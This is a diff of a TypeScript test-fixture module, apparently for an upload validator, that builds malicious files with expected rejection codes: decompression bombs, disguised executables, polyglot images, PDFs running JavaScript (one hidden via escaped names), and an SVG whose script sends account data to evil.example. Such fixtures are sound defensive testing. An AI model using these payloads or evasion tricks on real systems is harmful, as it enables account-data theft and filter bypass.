@@ -111,7 +111,12 @@ export function makeDocxBomb(size: number, declaredSize?: number) {
 export function makeXlsxBomb(size: number) {
   return zipOf([
     { name: "[Content_Types].xml", data: small(CONTENT_TYPES) },
-    { name: "xl/workbook.xml", data: small('<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>') },
+    {
+      name: "xl/workbook.xml",
+      data: small(
+        '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
+      ),
+    },
     { name: "xl/worksheets/sheet1.xml", data: deflateRepeated(size, "<row/>", '<?xml version="1.0"?><worksheet><sheetData>', "</sheetData></worksheet>") },
   ]);
 }
@@ -138,7 +143,12 @@ function pngWith(width: number, height: number, idat: Buffer) {
   header.writeUInt32BE(width, 0);
   header.writeUInt32BE(height, 4);
   header[8] = 8;
-  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk("IHDR", header), pngChunk("IDAT", idat), pngChunk("IEND", Buffer.alloc(0))]);
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    pngChunk("IHDR", header),
+    pngChunk("IDAT", idat),
+    pngChunk("IEND", Buffer.alloc(0)),
+  ]);
 }
 
 /** A baseline greyscale JPEG, mid grey: every 8x8 block a zero DC difference and an end-of-block. */
@@ -169,19 +179,24 @@ export function makeJpeg(width: number, height: number) {
 
 // --- Documents ---------------------------------------------------------------------------------
 
-const SVG = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400" onload="alert(document.cookie)"><script>fetch("/api/v1/account").then(r=>r.text()).then(t=>new Image().src="//evil.example/?"+t)</script><rect width="400" height="400"/></svg>\n';
+const SVG =
+  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400" onload="alert(document.cookie)"><script>fetch("/api/v1/account").then(r=>r.text()).then(t=>new Image().src="//evil.example/?"+t)</script><rect width="400" height="400"/></svg>\n';
 const HTML = "Meeting notes\n\n<script>alert(document.cookie)</script>\n";
 
 /** A PDF whose opening runs a script, written plainly. */
 function pdfWithScript() {
-  return Buffer.from("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('hi'\\)) >> >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
+  return Buffer.from(
+    "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('hi'\\)) >> >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
+  );
 }
 
 /** The same script hidden in a compressed object stream, its names #-escaped. */
 function pdfWithHiddenScript() {
   const objects = zlib.deflateSync(Buffer.from("3 0 << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"));
   return Buffer.concat([
-    Buffer.from(`%PDF-1.5\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${objects.length} >>\nstream\n`),
+    Buffer.from(
+      `%PDF-1.5\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${objects.length} >>\nstream\n`,
+    ),
     objects,
     Buffer.from("\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
   ]);
@@ -198,8 +213,21 @@ export function buildBadFiles(good: TGoodFile, maxBytes: number): TBadFile[] {
   const bombs = sharedBombs();
   const jpeg = makeJpeg(400, 400);
   const png = makePng(400, 400);
-  const file = (label: string, bytes: Buffer, filename: string, type: string, expect: TBadFile["expect"]): TBadFile => ({ label, bytes, filename, type, expect });
-  const named = (label: string, filename: string, expect: TBadFile["expect"], filenameParam?: string): TBadFile => ({ label, bytes: good.bytes, filename, type: good.type, filenameParam, expect });
+  const file = (label: string, bytes: Buffer, filename: string, type: string, expect: TBadFile["expect"]): TBadFile => ({
+    label,
+    bytes,
+    filename,
+    type,
+    expect,
+  });
+  const named = (label: string, filename: string, expect: TBadFile["expect"], filenameParam?: string): TBadFile => ({
+    label,
+    bytes: good.bytes,
+    filename,
+    type: good.type,
+    filenameParam,
+    expect,
+  });
   return [
     file("ELF program named .png", makeElf(), "holiday.png", "image/png", "file_empty_or_prohibited"),
     file("Windows program named .pdf", makeExe(), "invoice.pdf", "application/pdf", "file_empty_or_prohibited"),
@@ -209,7 +237,13 @@ export function buildBadFiles(good: TGoodFile, maxBytes: number): TBadFile[] {
     // One byte over the endpoint's limit: the file it takes, padded with zeros.
     file("one byte over the limit", Buffer.concat([good.bytes, Buffer.alloc(maxBytes + 1 - good.bytes.length)]), good.filename, good.type, "file_too_large"),
     file("zip bomb (200 MB, sizes declared)", bombs.zip, "archive.zip", "application/zip", "file_unpacks_too_large"),
-    file("docx bomb (100 KB to 100 MB)", bombs.docx, "report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "file_unpacks_too_large"),
+    file(
+      "docx bomb (100 KB to 100 MB)",
+      bombs.docx,
+      "report.docx",
+      "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+      "file_unpacks_too_large",
+    ),
     file("docx lying about its size", bombs.lyingDocx, "report.docx", "application/octet-stream", "file_unpacks_too_large"),
     file("xlsx bomb", bombs.xlsx, "qa.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "file_unpacks_too_large"),
     file("zip whose members share their bytes", bombs.overlapping, "bundle.docx", "application/octet-stream", "file_unpacks_too_large"),
@@ -222,8 +256,20 @@ export function buildBadFiles(good: TGoodFile, maxBytes: number): TBadFile[] {
     file("text with NUL bytes", Buffer.from("hello\0world\0", "latin1"), "notes.txt", "text/plain", "type"),
     file("a PDF named .txt", makePdf(), "notes.txt", "text/plain", "type"),
     file("a PNG named .svg", png, "logo.svg", "image/svg+xml", "type"),
-    file("PNG with a zip appended", Buffer.concat([png, makeZip({ "evil.html": "<script>alert(1)</script>" })]), "photo.png", "image/png", "file_empty_or_prohibited"),
-    file("JPEG with HTML appended", Buffer.concat([jpeg, Buffer.from("<html><script>alert(1)</script></html>")]), "photo.jpg", "image/jpeg", "file_empty_or_prohibited"),
+    file(
+      "PNG with a zip appended",
+      Buffer.concat([png, makeZip({ "evil.html": "<script>alert(1)</script>" })]),
+      "photo.png",
+      "image/png",
+      "file_empty_or_prohibited",
+    ),
+    file(
+      "JPEG with HTML appended",
+      Buffer.concat([jpeg, Buffer.from("<html><script>alert(1)</script></html>")]),
+      "photo.jpg",
+      "image/jpeg",
+      "file_empty_or_prohibited",
+    ),
     file("JPEG with a zip appended", Buffer.concat([jpeg, makeZip({ "payload.exe": "MZ" })]), "photo.jpg", "image/jpeg", "file_empty_or_prohibited"),
     file("PDF that runs JavaScript when opened", pdfWithScript(), "certificate.pdf", "application/pdf", "file_empty_or_prohibited"),
     file("PDF hiding JavaScript in an object stream", pdfWithHiddenScript(), "certificate.pdf", "application/pdf", "file_empty_or_prohibited"),
